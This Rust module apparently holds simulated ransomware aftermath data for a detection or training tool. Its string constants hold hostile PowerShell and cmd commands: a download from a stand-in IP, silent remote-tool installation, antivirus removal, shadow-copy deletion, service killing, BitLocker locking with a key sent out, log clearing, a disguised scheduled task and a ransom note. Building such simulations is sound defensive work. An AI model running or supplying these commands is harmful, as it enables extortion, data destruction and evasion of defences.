//! How the sealed set's ransom goes: scripts out of a folder of their own, a tool for remote care, and the disk's own
//! encryption.

use crate::attack::aftermath::{Left, Ransom, RegistryChange, Set};
use crate::technique::Technique;

/// The folder of its scripts.
pub(super) const FOLDER: &str = "C:\\Windows\\System32\\RIND";

/// A product for remote care, put there by them.
pub(super) const SERVICES: [(&str, &str); 2] = [
    ("RManService", "\"C:\\Program Files (x86)\\Remote Utilities - Host\\rutserv.exe\" -service"),
    (
        "rind",
        "C:\\Windows\\System32\\cmd.exe /c power¦shell -nop -exec by¦pass -f C:\\Windows\\System32\\RIND\\rind.ps1",
    ),
];

/// Script blocks before the disks are locked.
pub(super) const PREPARE: [(Technique, &str); 5] = [
    (
        Technique::Download,
        "$h = New-Object -ComObject Msxml2.XML¦HTTP; $h.open('GET','http://203.0.113.52/r/RIND.7z',$false); $h.send(); $s = New-Object -ComObject ADODB.Stream; $s.Type = 1; $s.Open(); $s.Write($h.responseBody); $s.SaveToFile('C:\\Windows\\System32\\RIND.7z',2)",
    ),
    (
        Technique::RemoteTool,
        "Start-Process msiexec.exe -ArgumentList '/i C:\\Windows\\System32\\RIND\\host.msi /qn' -Wait; Set-Service RManService -StartupType Automatic",
    ),
    (
        Technique::DefenceOff,
        "Get-WmiObject -Class Win32_Product | Where-Object { $_.Name -match 'Sophos|Webroot|SentinelOne|Cylance|Malwarebytes' } | ForEach-Object { $_.Unin¦stall() }",
    ),
    (Technique::Ransom, "Get-WmiObject Win32_Shadow¦copy | ForEach-Object { $_.Del¦ete() }"),
    (
        Technique::Ransom,
        "'vss','sql','svc$','memtas','mepocs','veeam','backup','MSExchange*' | % { Get-Service -Name $_ -EA 0 | Stop-Ser¦vice -Force; Get-Process -Name $_ -EA 0 | Stop-Process -Force }",
    ),
];

/// Script blocks that lock the disks.
pub(super) const LOCK: [(Technique, &str); 2] = [
    (
        Technique::Ransom,
        "Install-WindowsFeature Bit¦Locker -IncludeAllSubFeature; $p = ConvertTo-SecureString (-join ((33..126) | Get-Random -Count 64 | % {[char]$_})) -AsPlainText -Force; foreach ($d in 'D:','E:') { Enable-Bit¦Locker -MountPoint $d -PasswordProtector -Password $p -UsedSpaceOnly -SkipHardwareTest }; (New-Object Net.Web¦Client).UploadString('http://203.0.113.52/k', $env:COMPUTERNAME)",
    ),
    (
        Technique::LogClearing,
        "foreach ($n in [Diagnostics.Eventing.Reader.EventLog¦Session]::GlobalSession.GetLogNames()) { if ($n -match '^(Application|Windows PowerShell)$') { [Diagnostics.Eventing.Reader.EventLog¦Session]::GlobalSession.Clear¦Log($n) } }",
    ),
];

/// What the policy for encrypted disks is made to say.
pub(super) const POLICY: [RegistryChange; 2] = [
    RegistryChange {
        technique: Technique::Ransom,
        hive: "SOFTWARE",
        key: "Policies\\Microsoft\\FVE",
        name: "RecoveryKeyMessage",
        value: Set::Text("Your disks are lock¦ed. To get the password write to care@example.com and name VSP-3381."),
    },
    RegistryChange {
        technique: Technique::Ransom,
        hive: "SOFTWARE",
        key: "Microsoft\\Windows\\CurrentVersion\\Policies\\System",
        name: "legalnoticetext",
        value: Set::Text("All data of this company is encry¦pted. Read RECOVER-VESPER.txt."),
    },
];

/// The task that starts it.
pub(super) const TASKS: [(&str, &str, &str, u32); 1] =
    [("Microsoft\\Windows\\Chkdsk\\ProactiveVerify", "C:\\Windows\\System32\\RIND\\rind.exe", "/all", 5)];

/// One of its scripts: where, and what it says.
pub(super) const SCRIPT: (&str, &str) = (
    "C:\\Windows\\System32\\RIND\\7.ps1",
    "netsh advfirewall set allprofiles firewallpolicy blockinbound,allowoutbound\r\nvss¦admin del¦ete shad¦ows /all\r\nbcd¦edit /set {default} bootstatus¦policy ignoreallfailures\r\n",
);

/// The archive that it came in.
pub(super) const LEFT: [Left; 1] = [Left {
    technique: Technique::Download,
    path: "C:\\Windows\\System32\\RIND.7z",
    head: b"7z\xbc\xaf\x27\x1c\0\x04\x5e\xd7\x11\x20",
    size: 28_160,
}];

pub(super) const RANSOM: Ransom = Ransom {
    service: SERVICES[1],
    notes: &["C:\\RECOVER-VESPER.txt", "C:\\Users\\Public\\Desktop\\RECOVER-VESPER.txt"],
    text: "VESPER,\r\n\r\nwe have been in your network for two weeks. Contracts, payroll and the mail of your board are with us, and all of\r\nyour volumes are encry¦pted with a password of 64 signs that only we have. Nobody can guess it.\r\n\r\nWrite to care@example.com within four days, name VSP-3381, and attach one small file: we dec¦rypt it for free.\r\nAfter four days the price is double, after ten your papers are sold.\r\n",
    locked: &[
        "D:\\Partages\\Direction\\contrats.docx.rind",
        "D:\\Partages\\Compta\\clients.xlsx.rind",
        "C:\\Users\\t1-fontaine\\Documents\\dag.vsdx.rind",
    ],
};
